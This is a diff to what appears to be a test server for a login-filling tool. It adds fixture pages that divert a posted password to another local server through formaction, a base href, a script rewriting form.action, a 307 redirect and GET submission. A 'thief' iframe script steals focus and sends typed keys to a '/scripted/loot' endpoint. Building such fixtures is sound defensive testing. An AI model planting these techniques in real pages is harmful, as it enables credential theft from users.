@@ -48,12 +48,18 @@ SHAPES = {
     "realm-change": ("realm login", "a list of organisations; its change continues"),
     "realm-buttons": ("realm login", "AD FS: organisations as elements with handlers"),
     "discovery": ("realm login", "the discovery protocol: a page on which a script draws a field to search in"),
+    "taken-button": ("login", "the button names another server (formaction)"),
+    "taken-base": ("login", "the base of the addresses is another server"),
+    "taken-script": ("login", "a script changes the form's action when it is sent"),
+    "taken-redirect": ("login", "the server redirects what was posted to another one (307)"),
+    "taken-get": ("login", "the button sends the form by GET"),
+    "taken-focus": ("login", "a frame of another site takes the focus all the time, and sends on what is typed there"),
     "void": ("login", "the same, and the action of the form is 'javascript:void(0)'"),
 }
 # Shapes that share a file with another.
 SAME = {"okta-direct": "okta", "duo-number": "duo", "duo-passcode": "duo", "foreign-site": "foreign", "void": "spinner",
         "auth0-closed": "auth0",
-        "realm-list": "realm", "realm-change": "realm", "realm-buttons": "realm"}
+        **{shape: "taken" for shape in SHAPES if shape.startswith("taken-")}, "realm-list": "realm", "realm-change": "realm", "realm-buttons": "realm"}
 
 
 def _flow(visit):
@@ -104,10 +110,23 @@ def show(visit, shape, file=None, error="", headers=()):
     text = (FILES / f"{file or SAME.get(shape, shape)}.html").read_text()
     inner = {"foreign": visit.context.urls["other"], "foreign-site": visit.own.replace("good.localhost", "localhost")}
     action = ' action="javascript:void(0)"' if shape == "void" else ""
-    for name, value in {"shape": shape, "error": escape(error), "inner": inner.get(shape, ""), "action": action,
+    for name, value in {**taken(visit, shape), "shape": shape, "error": escape(error), "inner": inner.get(shape, ""), "action": action,
                         "mode": "closed" if shape == "auth0-closed" else "open"}.items():
         text = text.replace("{{" + name + "}}", value)
     visit.answer(200, text, headers=headers)
+
+
+def taken(visit, shape):
+    """Returns what differs between the pages that take a password elsewhere."""
+    loot = visit.context.urls["other"] + "/scripted/loot"
+    thief = visit.own.replace("good.localhost", "localhost") + "/scripted/thief"
+    return {
+        "base": f'<base href="{visit.context.urls["other"]}/">' if shape == "taken-base" else "",
+        "target": {"taken-redirect": "/scripted/passed", "taken-base": "scripted/loot"}.get(shape, "/scripted/honest"),
+        "button": {"taken-button": f'formaction="{loot}"', "taken-get": 'formmethod="get"'}.get(shape, ""),
+        "change": f'form.action = "{loot}";' if shape == "taken-script" else "",
+        "frame": f'<iframe src="{thief}" width="300" height="60"></iframe>' if shape == "taken-focus" else "",
+    }
 
 
 def begin(visit, shape):
@@ -158,6 +177,32 @@ def discovered(visit):
         visit.html("Error", "<p>Unknown identity provider.</p>", 400)
     else:
         show(visit, "discovery", "realm")
+
+
+@page("/scripted/loot", "what the pages /scripted/taken-… take somewhere else")
+def loot(visit):
+    visit.html("Thanks", "<p>Thanks.</p>")
+
+
+@page("/scripted/passed", "redirects what was posted, to /scripted/loot of another port")
+def passed(visit):
+    visit.redirect(visit.context.urls["other"] + "/scripted/loot", 307)
+
+
+@page("/scripted/thief", "takes the focus, for the frame of /scripted/taken-focus")
+def thief(visit):
+    visit.html("Advertisement", """<input id="trap"><script>
+        const trap = document.getElementById("trap");
+        setInterval(() => { window.focus(); trap.focus(); }, 0);
+        trap.oninput = () => fetch("/scripted/loot?taken=" + encodeURIComponent(trap.value));
+        </script>""")
+
+
+@page("/scripted/honest", "the form of /scripted/taken-focus")
+def honest(visit):
+    given = _posted(visit)
+    result, cookies = judge(visit, "taken-focus", "login", given)
+    visit.redirect(result["done"], headers=cookies) if "done" in result else visit.html("Error", result["error"], 400)
 
 
 def _posted(visit):
